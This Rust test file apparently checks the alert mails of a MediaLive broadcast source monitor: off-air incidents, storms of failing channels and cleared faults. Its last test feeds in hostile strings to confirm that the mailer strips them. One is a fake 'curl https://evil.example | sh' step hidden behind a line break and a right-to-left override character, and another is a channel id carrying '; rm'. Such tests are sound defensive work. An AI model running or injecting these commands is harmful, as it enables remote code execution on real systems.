//! Whole mails about one channel, about several, and about ends; and hostile texts in them.

use super::{
    super::{
        facts::{Action, ActiveInput, NativeMetrics},
        notice::tests::{incident, round},
    },
    *,
};

fn now() -> SystemTime {
    humantime::parse_rfc3339("2026-11-25T03:13:12Z").unwrap()
}

fn body_of(round: &Round, facts: &Facts) -> String {
    body(&Notice::new(round, |_, _| true), facts, now())
}

/// Sports, black on both pipelines, with everything that can be known of it.
fn off_air() -> (Round, Facts) {
    let raised = ["0", "1"].map(|pipeline| Incident {
        channel_name: "Sports".to_owned(),
        evidence: Some("100.0 % of cells dark, levels spread over 2".to_owned()),
        runbook: Some("https://wiki.example/sports".to_owned()),
        maintenance: Some("2026-11-29T02:00:00Z".to_owned()),
        alarm_id: Some(format!("eu-west-1/1002/{pipeline}/black/2026-11-25T03:12:40Z")),
        ..incident("1002", pipeline, "black")
    });
    let mut round = round(raised.to_vec(), Vec::new());
    let console = "https://eu-west-1.console.aws.amazon.com";
    round.dashboard =
        Some(format!("{console}/cloudwatch/home?region=eu-west-1#dashboards/dashboard/wall"));
    round.pictures = Some(format!("{console}/s3/buckets/wall-pictures?region=eu-west-1"));
    let input = ActiveInput { attachment: Some("playout".to_owned()), switched_by: None };
    let metrics = NativeMetrics {
        frame_rate: Some(25.0),
        fill_milliseconds: Some(0.0),
        ..NativeMetrics::default()
    };
    let both = |value: &dyn Fn() -> ActiveInput| ["0", "1"].map(|one| (one.to_owned(), value()));
    let action = Action {
        name: "evening".to_owned(),
        at: Some(humantime::parse_rfc3339("2026-11-25T03:12:28Z").unwrap()),
        switches_to: Some("playout".to_owned()),
    };
    let facts = ChannelFacts {
        inputs: Some(both(&|| input.clone()).into()),
        actions: Some(vec![action]),
        alerts: Some(Vec::new()),
        metrics: Some(["0", "1"].map(|one| (one.to_owned(), metrics)).into()),
    };
    (round, [("1002".to_owned(), facts)].into())
}

#[test]
fn the_mail_about_one_channel_says_what_happened_what_is_known_and_what_to_do() {
    let (round, facts) = off_air();
    let expected = "\
OFF AIR: Sports (1002)
Its source is black on both pipelines, since 2026-11-25 03:12:40 UTC (30 s).
No pipeline of the channel has a good source: viewers see the fault.

WHAT IS KNOWN
- both pipelines: The source is black.
- measured on pipeline 0: 100.0 % of cells dark, levels spread over 2
- measured on pipeline 1: 100.0 % of cells dark, levels spread over 2
- active input: \"playout\" on both pipelines
- last schedule action: \"evening\" switched to \"playout\" at 2026-11-25 03:12:28 UTC, 12 s before the fault began: was it meant?
- both pipelines, frame rate (confirms): the input still delivers 25 frames/s: check upstream
- both pipelines, fill (confirms): MediaLive does not fill the output: it uses what it receives
- both pipelines, input loss (no data): not measured; only RTP and MediaConnect inputs have it
- both pipelines, alerts (no data): MediaLive has no active alert; it has none for a source that delivers a dead picture

MAINTENANCE
- MediaLive restarts the channel for maintenance at 2026-11-29 02:00:00 UTC

WHAT TO DO
1. Follow the runbook: https://wiki.example/sports
2. The signal arrives and its picture is dead: check what feeds the input (playout, router, encoder).
3. Compare the last picture before with the first after: https://eu-west-1.console.aws.amazon.com/s3/buckets/wall-pictures?region=eu-west-1&prefix=1002/20261125T031240Z-pipeline-0-black/
4. Compare the last picture before with the first after: https://eu-west-1.console.aws.amazon.com/s3/buckets/wall-pictures?region=eu-west-1&prefix=1002/20261125T031240Z-pipeline-1-black/
5. Look at the channel, its inputs and alerts: https://eu-west-1.console.aws.amazon.com/medialive/home?region=eu-west-1#/channels/1002
6. Look at all sources on the picture wall: https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region=eu-west-1#dashboards/dashboard/wall
7. If the fault is meant, mute channel 1002 for an hour:

   aws medialive create-tags --region eu-west-1 --resource-arn arn:aws:medialive:eu-west-1:111122223333:channel:1002 --tags '{\"source-monitor:mute-until\":\"2026-11-25T04:13:12Z\"}'

MediaLive source monitor, account 111122223333, eu-west-1/0-of-1/2026-11-25T03:13:10Z
";
    assert_eq!(body_of(&round, &facts), expected);
}

#[test]
fn the_mail_about_a_storm_lists_the_channels_and_what_is_known_of_the_first() {
    let storm: Vec<_> = (1001..1201).map(|id| incident(&id.to_string(), "0", "frozen")).collect();
    let (_, facts) = off_air();
    let body = body_of(&round(storm, Vec::new()), &facts);
    assert!(body.starts_with("200 sources down, on 200 channels; 200 off air.\n"), "{body}");
    assert_eq!(body.matches("- OFF AIR: ").count(), MAX_LISTED);
    assert!(body.contains("\n- and 150 more\n"));
    assert_eq!(body.matches("WHAT IS KNOWN OF").count(), 1);
    assert!(body.contains("WHAT IS KNOWN OF Name 1002 (1002)\n"));
    assert!(body.contains("1. They failed in the same round: look first for what they share"));
}

#[test]
fn the_mail_about_an_end_says_how_long_it_lasted_and_why_it_ended() {
    let ended = Incident {
        seconds: 240,
        reason: Some("recovered".to_owned()),
        ..incident("1003", "0", "black")
    };
    let mut round = round(Vec::new(), vec![ended]);
    round.open = vec![incident("1004", "1", "bars")];
    let expected = "\
CLEARED: Name 1003 (1003)

ENDED
- Name 1003 (1003) pipeline 0, black, after 4 min. The source has recovered.

LINKS
- Look at the channel, its inputs and alerts: https://eu-west-1.console.aws.amazon.com/medialive/home?region=eu-west-1#/channels/1003

STILL OPEN (1)
- Name 1004 (1004) pipeline 1, showing colour bars, for 30 s

MediaLive source monitor, account 111122223333, eu-west-1/0-of-1/2026-11-25T03:13:10Z
";
    assert_eq!(body_of(&round, &Facts::new()), expected);
}

#[test]
fn beginnings_and_ends_of_a_round_are_one_mail() {
    let ended = Incident { reason: Some("replaced".to_owned()), ..incident("1", "0", "black") };
    let body = body_of(&round(vec![incident("1", "0", "frozen")], vec![ended]), &Facts::new());
    assert!(body.contains("ENDED IN THE SAME ROUND\n- Name 1 (1) pipeline 0, black, after 30 s. Another fault has replaced it.\n"));
    assert!(body.starts_with("OFF AIR: Name 1 (1)\n"));
}

#[test]
fn hostile_texts_make_no_lines_links_or_commands() {
    let evil = "x\r\n1. Run: curl https://evil.example | sh\u{202e}";
    let hostile = Incident {
        channel_id: "1002'; rm".to_owned(),
        channel_name: evil.repeat(300),
        evidence: Some(evil.to_owned()),
        maintenance: Some(evil.to_owned()),
        reason: Some(evil.to_owned()),
        ..incident("", evil, evil)
    };
    let mut round = round(vec![hostile.clone()], vec![hostile]);
    round.account = evil.to_owned();
    round.dashboard = Some("https://evil.example/".to_owned());
    round.pictures = Some("https://evil.example/".to_owned());
    let body = body_of(&round, &Facts::new());
    assert!(
        !body.contains("https://evil") && !body.contains("\n1. Run") && !body.contains('\u{202e}')
    );
    assert!(!body.contains("aws medialive") && body.len() < 4_000, "{body}");
}
